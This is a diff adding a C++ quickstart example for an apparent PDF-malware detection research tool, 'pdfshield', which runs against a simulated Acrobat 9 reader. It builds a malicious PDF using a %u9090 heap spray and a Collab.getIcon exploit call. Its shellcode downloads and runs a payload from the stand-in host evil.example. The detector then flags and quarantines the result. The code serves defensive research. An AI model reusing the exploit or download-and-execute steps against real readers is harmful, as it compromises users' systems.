@@ -1,0 +1,84 @@
+// Quickstart: the whole pdfshield pipeline in one page of code.
+//
+//   1. craft a malicious PDF (heap spray + Collab.getIcon exploit that
+//      drops and runs malware);
+//   2. run the static front-end: feature extraction + document
+//      instrumentation;
+//   3. open the instrumented file in the simulated Acrobat 9 with the
+//      runtime detector attached;
+//   4. read the verdict and see what the confinement layer did.
+//
+// Build & run:  ./build/examples/quickstart
+#include <iostream>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+using namespace pdfshield;
+
+int main() {
+  // --- 1. a malicious document ----------------------------------------------
+  support::Rng rng(2014);
+  reader::ShellcodeProgram shellcode;
+  shellcode.ops.push_back({"DROP", {"http://evil.example/payload.exe",
+                                    "c:/temp/payload.exe"}});
+  shellcode.ops.push_back({"EXEC", {"c:/temp/payload.exe"}});
+
+  corpus::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      reader::encode_shellcode(shellcode) + "';"
+      "var spray = unit;"
+      "while (spray.length < 2097152) spray += spray;"  // ~128 MB reported
+      "var keep = spray;"
+      "Collab.getIcon(keep.substring(0, 1500));");
+  const support::Bytes evil_pdf = builder.build();
+  std::cout << "crafted malicious PDF: " << evil_pdf.size() << " bytes\n";
+
+  // --- 2. static front-end ----------------------------------------------------
+  sys::Kernel kernel;
+  core::RuntimeDetector detector(kernel, rng);
+  core::FrontEnd frontend(rng, detector.detector_id());
+
+  core::FrontEndResult fe = frontend.process(evil_pdf);
+  std::cout << "static features: chain-ratio="
+            << fe.features.js_chain_ratio
+            << " header-obf=" << fe.features.f2()
+            << " hex=" << fe.features.f3()
+            << " -> " << fe.record.entries.size()
+            << " script(s) instrumented under key "
+            << fe.record.key.combined() << "\n";
+
+  // --- 3. open in the monitored reader -----------------------------------------
+  reader::ReaderSim reader(kernel);  // Acrobat 9 simulator
+  detector.attach(reader);           // installs IAT hooks + SOAP endpoint
+  detector.register_document(fe.record.key, "invoice.pdf", fe.features);
+  reader.open_document(fe.output, "invoice.pdf");
+
+  // --- 4. verdict + confinement --------------------------------------------------
+  const core::Verdict verdict = detector.verdict(fe.record.key);
+  std::cout << "\nverdict: " << (verdict.malicious ? "MALICIOUS" : "benign")
+            << " (malscore " << verdict.malscore << ")\n";
+  for (const auto& line : verdict.evidence) std::cout << "  - " << line << "\n";
+
+  std::cout << "\nfile system after confinement:\n";
+  for (const auto& path : kernel.fs().list()) {
+    std::cout << "  " << path
+              << (sys::VirtualFileSystem::is_quarantined(path) ? "  [quarantined]"
+                                                               : "")
+              << "\n";
+  }
+  for (const auto& [pid, proc] : kernel.processes()) {
+    if (proc->image() != "AcroRd32.exe") {
+      std::cout << "process " << proc->image() << " sandboxed="
+                << proc->sandboxed() << " terminated=" << proc->terminated()
+                << "\n";
+    }
+  }
+  return verdict.malicious ? 0 : 1;
+}
